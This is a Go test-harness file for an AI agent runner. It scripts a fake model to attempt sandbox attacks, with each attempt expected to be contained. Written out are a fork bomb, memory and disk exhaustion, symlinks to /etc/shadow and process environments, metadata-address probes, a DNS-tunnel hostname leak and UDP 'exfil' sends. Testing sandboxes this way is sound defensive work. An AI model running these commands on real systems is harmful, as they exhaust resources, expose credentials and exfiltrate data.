package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"github.com/agentrun/agent/internal/llmtest"
	"github.com/agentrun/agent/internal/runnertest"
	"github.com/agentrun/agent/runner"
)

// kind is one kind of task in a round: its spec, the scripted model's turns, and the outcomes
// it may end with.
type kind struct {
	name   string
	attack bool
	repeat int
	// spec is the YAML of an attack task (the model line is added); normal tasks are copies of
	// the example suite.
	spec string
	// scenario scripts the model.
	scenario *llmtest.Scenario
	// expect lists acceptable outcomes: "passed", "failed", or "error/REASON".
	expect []string
}

// normalTasks are the example suite's tasks, each played back from its recorded transcript.
var normalTasks = []string{"fix-median", "fizzbuzz", "git-find-regression", "git-merge-branch", "loc-report",
	"log-errors", "paginate-fix", "rename-function", "sales-report", "slugify"}

// commands scripts a model that runs one shell script, then says it is done.
func commands(name string, script string) *llmtest.Scenario {
	return &llmtest.Scenario{Name: name, Turns: []llmtest.Turn{
		{Content: "Running it.", ToolCalls: []llmtest.ToolCall{{Name: "run_commands", Args: map[string]any{"command": strings.TrimSpace(script)}}}},
		{Content: "Done."},
	}}
}

// attackKinds are the hostile tasks of every round. port is the canary listener's port on every
// host address: reaching it from a sandbox is an escape.
func attackKinds(port int) []kind {
	canary := fmt.Sprintf(`gw=$(awk '/^nameserver/ {print $2; exit}' /etc/resolv.conf)
for u in "http://$gw:%[1]d/" "http://198.51.100.1:%[1]d/" "http://127.0.0.1:%[1]d/" "http://$gw:22/"; do
  curl -fsS --max-time 3 "$u" >/dev/null 2>&1 && echo "REACHED $u"
done >>escapes.txt`, port)
	traps := `for u in http://169.254.169.254/ http://10.1.2.3/ http://172.16.5.4/ http://192.168.7.8/ http://100.64.1.1/ https://10.1.2.3/; do
  curl -fsSk --max-time 3 "$u" >/dev/null 2>&1 && echo "REACHED $u"
done >>escapes.txt
python3 - <<'EOF' >>escapes.txt 2>&1
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for a in ("10.1.2.3", "169.254.169.254", "192.168.7.8"):
    try:
        s.sendto(b"exfil", (a, 53))
    except OSError:
        pass
EOF`
	noEscape := `
  - name: no escape reached anything
    run: "! grep REACHED escapes.txt"`
	return []kind{
		{name: "a-fork-bomb", attack: true, expect: []string{"error/pids_limit"}, spec: `
prompt: Stress the process table.
limits: {pids: 64, command_timeout: 60s}
checks:
  - run: "true"`, scenario: commands("a-fork-bomb", `timeout 8 sh -c 'b(){ b | b & }; b' >/dev/null 2>&1; sleep 1; pkill -9 -f 'sh -c' ; echo survived`)},

		{name: "a-memory-bomb", attack: true, expect: []string{"error/oom"}, spec: `
prompt: Use all the memory.
limits: {memory: 128MiB}
checks:
  - run: "true"`, scenario: commands("a-memory-bomb", `python3 -c 'x=[]
while True: x.append(bytearray(16<<20))'; echo exit=$?`)},

		{name: "a-disk-fill", attack: true, expect: []string{"error/disk_full"}, spec: `
prompt: Fill the disk.
limits: {disk: 128MiB}
checks:
  - run: "true"`, scenario: commands("a-disk-fill", `dd if=/dev/zero of=fill.bin bs=1M count=1024 2>&1 | tail -1; df -k . | tail -1`)},

		{name: "a-output-flood", attack: true, expect: []string{"passed"}, spec: `
prompt: Print a lot.
checks:
  - name: a check that floods its output too
    run: head -c 20000000 /dev/zero | tr '\0' y
    stdout_contains: yyyy`, scenario: commands("a-output-flood", `head -c 100000000 /dev/zero | tr '\0' x; echo; head -c 20000000 /dev/zero | tr '\0' e >&2; echo done`)},

		// Symlinks planted for artifact collection, and a racer swapping a file for a symlink
		// while the runner collects.
		{name: "a-symlinks", attack: true, expect: []string{"passed"}, spec: `
prompt: Leave some files.
checks:
  - file: real.txt
    contains: real`, scenario: commands("a-symlinks", `echo real > real.txt
ln -s /etc/shadow shadow.txt
ln -s / rootlink
ln -s /proc/1/root/etc/hostname hostname.txt
ln -s /proc/self/environ environ.txt
mkdir -p out && ln -s ../../../../../../../etc/passwd out/passwd.txt
ln /etc/passwd hardlink.txt 2>/dev/null
nohup setsid timeout 300 sh -c 'while :; do echo x > race.txt; rm -f race.txt; ln -s /etc/shadow race.txt; rm -f race.txt; done' >/dev/null 2>&1 &
echo planted`)},

		{name: "a-artifact-flood", attack: true, expect: []string{"passed"}, spec: `
prompt: Make many files.
checks:
  - file: small.txt
    contains: ok`, scenario: commands("a-artifact-flood", `mkdir -p many && (cd many && seq 1 3000 | xargs touch)
head -c 20000000 /dev/urandom > big.bin
echo ok > small.txt`)},

		// An allow-list: the allowed name (DNS through the fake resolver, the egress proxy) works;
		// other names, SNI/Host fronting, private ranges, the metadata address, the host and DNS
		// tunnels do not.
		{name: "a-net-allow", attack: true, expect: []string{"passed"}, spec: `
prompt: Fetch the allowed page, then try to get out.
network: {allow: [allowed.test]}
checks:
  - file: public.txt
    contains: hello from 203.0.113.10` + noEscape, scenario: commands("a-net-allow", `curl -fsS --max-time 5 http://allowed.test/ >public.txt 2>&1
curl -fsSk --max-time 5 https://allowed.test/ >>public.txt 2>&1
: >escapes.txt
for u in http://203.0.113.20/ http://other.test/ https://other.test/ http://evil.test/; do
  curl -fsSk --max-time 3 "$u" >/dev/null 2>&1 && echo "REACHED $u"
done >>escapes.txt
curl -fsSk --max-time 3 --resolve other.test:443:203.0.113.10 https://other.test/ >/dev/null 2>&1 && echo "REACHED fronted SNI" >>escapes.txt
curl -fsS --max-time 3 -H 'Host: other.test' http://allowed.test/ >/dev/null 2>&1 && echo "REACHED fronted Host" >>escapes.txt
getent hosts "$(head -c 12 /etc/hostname | od -An -tx1 | tr -d ' \n').tunnel.other.test" && echo "REACHED dns tunnel" >>escapes.txt
`+traps+"\n"+canary+"\necho tried")},

		{name: "a-net-internet", attack: true, expect: []string{"passed"}, spec: `
prompt: Fetch the public page, then try to get out.
network: internet
checks:
  - file: public.txt
    contains: hello from 203.0.113.10` + noEscape, scenario: commands("a-net-internet", `curl -fsS --max-time 5 http://203.0.113.10/ >public.txt 2>&1
: >escapes.txt
`+traps+"\n"+canary+"\necho tried")},
	}
}

// writeSuite writes a round's suite into dir: the example tasks (model lines and repeat added)
// and the attack specs, and returns the kinds with their scenarios.
func writeSuite(root, dir string, port, repeat int) ([]kind, error) {
	var kinds []kind
	models := map[string]string{}
	for _, task := range normalTasks {
		models[task] = "custom:n-" + task
	}
	if err := runnertest.CopySuite(filepath.Join(root, "tasks", "examples"), dir, models); err != nil {
		return nil, fmt.Errorf("copying the example suite: %w", err)
	}
	for _, task := range normalTasks {
		sc, err := runnertest.LoadScenario(root, task, "n-"+task, llmtest.ShapeFragments)
		if err != nil {
			return nil, err
		}
		p := filepath.Join(dir, task, "task.yaml")
		data, err := os.ReadFile(p)
		if err != nil {
			return nil, err
		}
		if err := os.WriteFile(p, append([]byte(fmt.Sprintf("repeat: %d\n", repeat)), data...), 0o644); err != nil {
			return nil, err
		}
		kinds = append(kinds, kind{name: task, repeat: repeat, scenario: sc, expect: []string{"passed"}})
	}
	for _, k := range attackKinds(port) {
		body := fmt.Sprintf("model: custom:%s\n%s\n", k.scenario.Name, strings.TrimLeft(k.spec, "\n"))
		if err := os.WriteFile(filepath.Join(dir, k.name+".yaml"), []byte(body), 0o644); err != nil {
			return nil, err
		}
		k.repeat = 1
		kinds = append(kinds, k)
	}
	return kinds, nil
}

// outcome names a result as kind.expect does.
func outcome(r *runner.TaskResult) string {
	if r.Status == runner.StatusError {
		return "error/" + string(r.Reason)
	}
	return string(r.Status)
}
